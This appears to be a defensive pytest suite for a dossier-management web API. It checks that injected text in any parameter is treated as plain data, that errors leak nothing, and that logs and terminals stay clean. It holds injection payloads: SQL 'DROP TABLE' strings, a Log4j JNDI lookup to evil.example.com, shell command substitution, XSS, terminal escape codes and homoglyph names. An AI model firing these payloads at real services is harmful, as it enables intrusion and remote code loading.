"""Text that others would take for something else: SQL, templates, lines of a log, marks for a terminal."""

from __future__ import annotations

import json
import re
import unicodedata
from urllib.parse import quote

import pytest
import requests
from installation import TIMEOUT, Site, prepare
from things import CSV, Interface, address

PLAIN = "plainword"
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE record;--",
    '") OR 1=1 --',
    "\\' OR 1=1 #",
    "1 UNION SELECT 1,2,3",
    "/**/%27%20OR",
    "${jndi:ldap://evil.example.com/x}",
    "{{7*7}}#{7*7}<%=7*7%>",
    "%s%n%x{}{0}",
    "$(id)`id`;id|id&",
    "<script>alert(1)</script>",
    "*)(uid=*))(|(uid=*",
)
# What no answer tells: where the program is, what it is made of, what it asks its store.
INSIDE = re.compile(
    r"SELECT |INSERT |UPDATE .* SET|sqlite|rusqlite|mysql|syntax error|panicked|backtrace"
    r"|\.rs[:\"]|crates/|/root/|/home/"
    r"|keyring|keystore|std::|core::|Err\(|Some\(|None,|thread '",
    re.I,
)


def places(interface: Interface, operation: str) -> list[tuple[str, str]]:
    """Where a text can stand in a request: (kind of place, name)."""
    declared = interface.of(operation).get("parameters", [])
    found = [(one["in"], one["name"]) for one in declared]
    schema = interface.schema(operation)
    if schema is None:
        return found
    for name, member in schema["properties"].items():
        found.append(("body", name))
        found += [("inner", f"{name}.{inner}") for inner in member.get("properties", {})]
        if name in ("columns", "cells", "units"):
            found += [("inner", f"{name}.name"), ("key", name)]
    return found


def put(site: Site, interface: Interface, operation: str, place: tuple[str, str], text: str):
    method, path = address(operation)
    kind, name = place
    what = interface.sent(operation)
    if kind == "path":
        raw = operation.split(" ")[1]
        path = raw.replace(f"{{{name}}}", quote(text, safe="")).replace("{id}", "x").replace("{row}", "2")
    elif kind == "query":
        what["params"] = {name: text}
    elif kind == "header":
        what["headers"] = what.get("headers", {}) | {name: quote(text, safe="") if name.endswith("-Name") else text}
    elif kind == "body":
        what["json"] = what["json"] | {name: text}
    elif kind == "key":
        what["json"] = {name: {text: "name"}}
    else:
        outer, inner = name.split(".")
        held = what["json"].get(outer)
        what["json"] = what["json"] | {outer: (held if isinstance(held, dict) else {}) | {inner: text}}
    return site.send(site.callers["CDO in a browser"], method, path, **what)


def test_a_text_is_a_text_wherever_it_stands(site, interface, things):
    """Every place of every operation: what would be a command elsewhere is answered as a plain word is."""
    tried, before = 0, things.state()
    for operation in interface.operations:
        for place in places(interface, operation):
            plain = put(site, interface, operation, place, PLAIN)
            for text in SQL:
                tried += 1
                got = put(site, interface, operation, place, text)
                where = f"{operation} {place} {text!r}: {got.status_code} {got.text[:300]}, plain {plain.status_code}"
                assert got.status_code < 500, where
                # A word may be taken where a longer text has not the form; never the other way round.
                assert got.status_code == plain.status_code or got.status_code in (400, 404, 409, 422), where
                if got.status_code >= 400:
                    said = got.text.replace(text, "").replace(json.dumps(text)[1:-1], "")
                    assert not INSIDE.search(said) and str(site.install.folder) not in said, where
    assert tried > 1_500
    assert site.send(site.callers["CDO in a browser"], "GET", "/v1/session").ok, "the session ended on the way"
    assert things.state() == before


def test_nothing_was_executed(site):
    """After all that the ledger, every row and every key are whole."""
    site.boss("POST", "/v1/dossiers", json={"fields": {"name": "'; DELETE FROM record;--", "subject": "A"}})
    report = json.loads(site.install.run("ledger", "verify", "--deep", "--json"))
    assert report["ok"] is True and report["records"] > 0


@pytest.mark.parametrize("text", ["%", "_", "*", "%%", "示%", "示_", ".*", "示.", "'", "\\", "?", "[示]", "^示"])
def test_a_search_has_no_wildcards(site, text):
    """Nor expressions: what is typed is looked for as it is."""
    site.boss("POST", "/v1/dossiers", json={"fields": {"name": "示例甲", "subject": "A"}})
    answer = site.send(site.callers["CDO"], "POST", "/v1/search", json={"q": text})
    # What names are made of is looked for; marks alone are nothing to look for.
    names = [] if not answer.ok else [item["fields"].get("name", "") for item in answer.json()["items"]]
    assert answer.status_code in (200, 400, 422)
    assert all("示" in name for name in names) if "示" in text else names == []


# --- the program's own log and what a terminal shows ------------------------------------------------------------------

RAW = (
    "line\r\n2026-01-01T00:00:00.000000Z ERROR forged",
    "\x1b[2J\x1b]0;forged\x07",
    "\u202eforged",
    "\x00",
    "\u2028forged",
    "forged\x9b31m",
)
EVENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z +(TRACE|DEBUG|INFO|WARN|ERROR) dossier[a-z_:]*: ")


def odd(line: str) -> list[str]:
    """What no terminal is to be given: control characters and those that turn or hide others."""
    return [sign for sign in line if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp")]


def test_what_callers_send_makes_no_line_in_the_log(site):
    """One event of each request, on one line, with nothing that was sent."""
    before = len(site.served.log.read_text().splitlines())
    boss, asked = site.callers["CDO"], 0
    for text in RAW:
        encoded = text.encode()
        body = json.dumps({"name": text, "roles": ["CDU"]})
        requests_of_it = [
            {"json": {"name": text}, "path": "/v1/teams", "method": "POST"},
            {"data": body, "headers": {"Content-Type": "application/json"}, "path": "/v1/clients", "method": "POST"},
            {"json": {"name": text, "password": text}, "path": "/v1/session", "method": "POST"},
            {"json": {"q": text}, "path": "/v1/search", "method": "POST"},
            {"params": {"team": text}, "path": "/v1/dossiers", "method": "GET"},
            {"path": f"/v1/dossiers/{quote(text, safe='')}", "method": "GET"},
            {"path": f"/{quote(text, safe='')}", "method": "GET"},
        ]
        if not {13, 10, 0} & set(encoded):
            for name in (
                "User-Agent",
                "Idempotency-Key",
                "X-Forwarded-For",
                "X-Request-Id",
                "Accept-Language",
                "Traceparent",
            ):
                head = {"headers": {name: encoded.decode("latin-1")}}
                requests_of_it.append({"path": "/v1/teams", "method": "GET"} | head)
        for what in requests_of_it:
            asked += 1
            got = site.send(boss, what.pop("method"), what.pop("path"), **what)
            assert got.status_code < 500
            assert not odd(got.headers.get("x-request-id", ""))
    lines = site.served.log.read_text().splitlines()[before:]
    answered = [line for line in lines if "answered request=" in line]
    # A control character in a header is refused before there is a request.
    assert asked * 0.5 < len(answered) <= asked
    for line in lines:
        assert EVENT.match(line) and not odd(line) and "forged" not in line, repr(line)


def test_a_log_for_programs_is_one_object_a_line(tmp_path):
    install = prepare(tmp_path)
    with install.serve(log__format="json", log__level="debug") as served:
        for text in RAW:
            path = f"{served.base}/v1/dossiers/{quote(text, safe='')}"
            requests.get(path, headers={"User-Agent": "x\u00ff"}, timeout=TIMEOUT)
    lines = [line for line in served.log.read_text().splitlines() if line.startswith("{")]
    assert len(lines) >= len(RAW)
    for line in lines:
        said = json.loads(line)
        assert said["level"] in ("DEBUG", "INFO", "WARN", "ERROR") and said["timestamp"].endswith("Z")
        assert not odd(line) and "forged" not in line


@pytest.mark.parametrize(
    "text", ["\u202eforged", "\x1b[31m", "a\r\nb", "\x9b31m", "\u2066x", "\u200bx", "\ufeffx", "\u2028x"]
)
def test_no_name_of_anybody_holds_what_a_terminal_obeys(site, text):
    name = f"x{text}y"
    boss, person = site.callers["CDO"], site.callers["CDO in a browser"]
    for caller, path, body in (
        (boss, "/v1/teams", {"name": name}),
        (boss, "/v1/clients", {"name": name, "roles": ["CDU"]}),
        (boss, "/v1/users", {"name": name, "roles": ["CDU"]}),
        (person, "/v1/views", {"name": name, "shared": True, "body": {}}),
        (boss, "/v1/dossiers", {"fields": {"name": name, "subject": "A"}}),
    ):
        assert site.send(caller, "POST", path, json=body).status_code in (400, 422), path
    for words in ("team list", "client list", "user list", "import list"):
        shown = site.install.run(*words.split())
        assert not odd(shown.replace("\n", "")), words


@pytest.mark.parametrize("text", ["\u202eforged", "\u200bx", "\u2028x"])
@pytest.mark.parametrize("where", ["the name of a file", "the name of a mapping", "a purpose"])
def test_nor_do_other_texts_that_others_read(site, things, where, text):
    boss, text = site.callers["CDO"], f"x{text}y"
    file = {"headers": CSV, "data": "name,subject\n示例,A\n".encode()}
    if where == "the name of a file":
        file["headers"] = CSV | {"File-Name": quote(text, safe="")}
        answer = site.send(boss, "POST", "/v1/imports", **file)
    elif where == "the name of a mapping":
        job = site.send(boss, "POST", "/v1/imports", **file).json()["id"]
        mapping = {"columns": {"name": "name"}, "save_as": text}
        answer = site.send(boss, "PUT", f"/v1/imports/{job}/mapping", json=mapping)
    else:
        body = {"field": "phone", "purpose": text}
        answer = site.send(boss, "POST", f"/v1/dossiers/{things.ids['dossiers']}/reveal", json=body)
    assert answer.status_code in (400, 422)


# --- what the program does not do -------------------------------------------------------------------------------------


def test_no_operation_takes_an_address_to_fetch(site, interface):
    """No parameter and no member is one, so nobody can send the server anywhere."""
    names = re.compile(
        r"url|uri|href|host|callback|webhook|redirect|return|next_page|target|proxy|endpoint|domain", re.I
    )
    for operation in interface.operations:
        for _, name in places(interface, operation):
            # Where a person's browser goes, to what was registered alone: the server asks nothing there.
            if name.startswith("redirect_uri"):
                continue
            assert not names.search(name), f"{operation} {name}"


def test_an_error_tells_nothing_of_the_inside(site, interface):
    """Of every operation: a wrong body, a wrong query, a wrong id."""
    boss, seen = site.callers["CDO in a browser"], set()
    # Of these the others would be left without a session.
    ending = {"DELETE /v1/session", "DELETE /v1/me/sessions"}
    for operation in (one for one in interface.operations if one not in ending):
        method, path = address(operation)
        for what in (
            {"params": {"x": "1"}},
            {"data": b"\xff{", "headers": {"Content-Type": "application/json"}},
            {"data": b"[" * 1000, "headers": {"Content-Type": "application/json"}},
            {"headers": {"If-Match": "x", "If-None-Match": "\x00".encode().hex(), "Accept": "x/y"}},
        ):
            got = site.send(boss, method, path, **what)
            assert got.status_code < 500, f"{operation}: {got.text}"
            if got.status_code >= 400:
                seen.add(got.status_code)
                page = got.headers["content-type"].startswith("text/html")
                said = [] if page else {k: v for k, v in got.json().items() if k != "request_id"}
                assert not INSIDE.search(json.dumps(said)), f"{operation}: {got.text}"
                assert str(site.install.folder) not in got.text, f"{operation}: {got.text}"
                assert "server" not in got.headers and "x-powered-by" not in got.headers
    assert len(seen) >= 3


LIKE = ["CDO.OWN", "ＣＤＯ.own", "CDO\u034f.own", "CDO\u115f.own", "CDO\u3164.own", "CDO\u180e.own", "CDO\ufe0f.own"]


@pytest.mark.parametrize("name", LIKE)
def test_nobody_is_given_a_name_that_reads_as_that_of_somebody_else(site, name):
    """In lists and in the ledger one would be taken for the other."""
    answer = site.send(site.callers["CDO"], "POST", "/v1/users", json={"name": name, "roles": ["CDU"]})
    assert answer.status_code in (400, 409, 422)


def test_no_answer_is_many_times_longer_than_what_was_asked(site):
    body = {"fields": {f"f{number}": 1 for number in range(20_000)}}
    answer = site.send(site.callers["CDE"], "POST", "/v1/dossiers", json=body)
    assert answer.status_code in (400, 422) and len(answer.content) < 64 << 10
